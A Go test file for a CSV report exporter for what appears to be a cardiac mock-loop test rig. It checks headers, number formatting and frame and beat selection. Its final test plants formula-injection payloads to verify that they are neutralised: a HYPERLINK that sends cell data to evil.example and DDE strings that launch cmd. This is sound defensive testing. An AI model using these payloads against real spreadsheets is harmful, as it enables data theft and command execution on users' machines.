package reports

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"math"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mockloop/mockloop/runlog"
)

// frameRef is a frame as runlog reads it, for comparison.
type frameRef struct {
	t time.Duration
	v []float64
}

// allFrames reads every frame of the run.
func allFrames(t *testing.T, r *Report) []frameRef {
	t.Helper()
	var out []frameRef
	if _, err := r.run.Frames(func(ts time.Duration, v []float64) error {
		out = append(out, frameRef{ts, append([]float64(nil), v...)})
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestFramesCSV checks the frames export: its header with units, exact
// times and values, and each kind of selection against a selection made
// by hand from the frames runlog reads.
func TestFramesCSV(t *testing.T) {
	r, err := load(fixtureRun(t, "pass"), false)
	if err != nil {
		t.Fatal(err)
	}
	ref := allFrames(t, r)
	s := func(x float64) time.Duration { return time.Duration(x * float64(time.Second)) }
	for _, tc := range []struct {
		name string
		sel  Selection
		keep func(i int, f frameRef) bool
	}{
		{"all", Selection{}, func(int, frameRef) bool { return true }},
		{"every 7", Selection{Every: 7}, func(i int, _ frameRef) bool { return i%7 == 0 }},
		{"range", Selection{From: s(2.5), To: s(5)}, func(_ int, f frameRef) bool { return f.t > s(2.5) && f.t <= s(5) }},
		{"from", Selection{From: s(11)}, func(_ int, f frameRef) bool { return f.t > s(11) }},
		{"repeated step", Selection{Step: "2.1"}, func(_ int, f frameRef) bool { return f.t > s(4) && f.t <= s(10) }},
		{"parent step", Selection{Step: "2"}, func(_ int, f frameRef) bool { return f.t > s(4) && f.t <= s(10) }},
		{"step, range, every", Selection{Step: "2.1", From: s(5), To: s(9), Every: 3}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var want []frameRef
			k := 0
			for i, f := range ref {
				switch {
				case tc.keep != nil:
					if tc.keep(i, f) {
						want = append(want, f)
					}
				case f.t > s(5) && f.t <= s(9):
					if k%3 == 0 {
						want = append(want, f)
					}
					k++
				}
			}
			var b bytes.Buffer
			if err := r.WriteFramesCSV(&b, tc.sel); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			wantHeader := "t [s],lvp [mmHg],aop [mmHg],lap [mmHg],flow_ao [L/min],flow_dut [L/min],dut.rpm [rpm],dut.current [mA],dut.alarms,temp [°C],lv_volume [ml]"
			if h := strings.Join(rows[0], ","); h != wantHeader {
				t.Fatalf("header %q, want %q", h, wantHeader)
			}
			rows = rows[1:]
			if len(rows) != len(want) || len(want) == 0 {
				t.Fatalf("%d rows, want %d", len(rows), len(want))
			}
			for i, row := range rows {
				f := want[i]
				if row[0] != fmtNS(int64(f.t)) {
					t.Fatalf("row %d: t %s, want %s", i, row[0], fmtNS(int64(f.t)))
				}
				for j, cell := range row[1:] {
					v, err := strconv.ParseFloat(cell, 32)
					if err != nil || float32(v) != float32(f.v[j]) {
						t.Fatalf("row %d column %d: %q, want %v", i, j+1, cell, f.v[j])
					}
				}
			}
		})
	}
	for _, sel := range []Selection{{Step: "9"}, {From: s(5), To: s(5)}, {Every: -1}, {From: -1}} {
		_, err := Generate(copyRun(t, "pass"), Options{Formats: []string{FormatCSV}, Frames: sel})
		if !errors.Is(err, ErrSelection) {
			t.Errorf("selection %+v: error %v, want ErrSelection", sel, err)
		}
	}
}

// TestFmtSample checks the text of stored values: exact float32, and the
// non-finite ones as CSV readers know them.
func TestFmtSample(t *testing.T) {
	for v, want := range map[float64]string{
		float64(float32(101.37)): "101.37", 0: "0", -0.5: "-0.5", math.NaN(): "NaN", math.Inf(1): "+Inf", math.Inf(-1): "-Inf",
		float64(float32(1e-7)): "1e-07",
	} {
		if got := fmtSample(v); got != want {
			t.Errorf("fmtSample(%v) = %q, want %q", v, got, want)
		}
	}
	for ns, want := range map[int64]string{0: "0", 5e6: "0.005", 12_345_000_001: "12.345000001", 7e9: "7", -1: "-0.000000001"} {
		if got := fmtNS(ns); got != want {
			t.Errorf("fmtNS(%d) = %q, want %q", ns, got, want)
		}
	}
}

// TestBeatsCSV checks the beats export and its step selection.
func TestBeatsCSV(t *testing.T) {
	r, err := load(fixtureRun(t, "pass"), false)
	if err != nil {
		t.Fatal(err)
	}
	count := func(sel Selection) [][]string {
		var b bytes.Buffer
		if err := r.WriteBeatsCSV(&b, sel); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if h := strings.Join(rows[0], ","); h != "t [s],channel,systolic [mmHg],diastolic [mmHg],mean [mmHg],pulse_pressure [mmHg],heart_rate [bpm],stroke_volume [ml]" {
			t.Fatalf("header %q", h)
		}
		return rows[1:]
	}
	data, _ := os.ReadFile(filepath.Join(r.dir, runlog.BeatsFile))
	all := count(Selection{})
	if n := bytes.Count(data, []byte("\n")); len(all) != n || n == 0 {
		t.Fatalf("%d beats exported, beats.jsonl has %d", len(all), n)
	}
	step1 := count(Selection{Step: "1"})
	if len(step1) == 0 || len(step1) >= len(all) {
		t.Fatalf("step 1: %d of %d beats", len(step1), len(all))
	}
	for _, row := range step1 {
		if ts, _ := strconv.ParseFloat(row[0], 64); ts <= 0 || ts > 4 {
			t.Errorf("beat at %s s outside step 1 (0 to 4 s]", row[0])
		}
	}
}

// copyRun copies a recorded run to a temporary directory, for tests that
// write reports into the run directory.
func copyRun(t *testing.T, name string) string {
	t.Helper()
	src := fixtureRun(t, name)
	dst := filepath.Join(t.TempDir(), filepath.Base(src))
	err := filepath.WalkDir(src, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		to := filepath.Join(dst, rel)
		if d.IsDir() {
			return os.MkdirAll(to, 0o755)
		}
		in, err := os.Open(p)
		if err != nil {
			return err
		}
		defer in.Close()
		out, err := os.Create(to)
		if err != nil {
			return err
		}
		if _, err := io.Copy(out, in); err != nil {
			out.Close()
			return err
		}
		return out.Close()
	})
	if err != nil {
		t.Fatal(err)
	}
	return dst
}

// TestCSVCellsCannotBeFormulas: a criterion's text cells that a spreadsheet
// would evaluate (=HYPERLINK(…), +, -, @, tab, CR) are written as text with
// a leading apostrophe; numbers, negative ones included, stay numbers.
func TestCSVCellsCannotBeFormulas(t *testing.T) {
	r, err := load(fixtureRun(t, "pass"), false)
	if err != nil {
		t.Fatal(err)
	}
	c := r.crit[0].c
	c.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	c.Reason, c.OnFail, c.Limits, c.Measure = "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"
	c.Step, c.StepName = "\r=1", "-1.5"
	lo := -10.25
	c.Lo = &lo
	var b bytes.Buffer
	if err := r.WriteCriteriaCSV(&b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := map[string]string{}
	for i, h := range rows[0] {
		row[h] = rows[1][i]
	}
	for col, want := range map[string]string{
		"name":      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"reason":    "'+1+cmd|' /C calc'!A0",
		"on_fail":   "'@SUM(A1:A9)",
		"limits":    "'-2+3+cmd|' /C calc'!A0",
		"measure":   "'\t=1+1",
		"step":      "'\r=1",
		"step_name": "-1.5",
		"lo":        "-10.25",
	} {
		if row[col] != want {
			t.Errorf("%s: %q, want %q", col, row[col], want)
		}
	}
}
